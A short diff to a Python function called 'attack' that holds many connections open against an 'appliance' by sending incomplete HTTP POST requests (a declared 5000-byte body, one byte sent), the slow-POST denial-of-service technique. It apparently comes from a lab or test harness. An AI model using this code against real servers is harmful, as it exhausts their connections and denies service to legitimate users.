@@ -14,7 +14,7 @@ def attack(appliance):
         for _ in range(COUNT):
             try:
                 connection = open_connections.enter_context(appliance.connect(source))
-                connection.sendall(b"POST /help/x HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n\r\nq")
+                connection.sendall(b"POST /help/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\nq")
                 held += 1
             except OSError:
                 pass
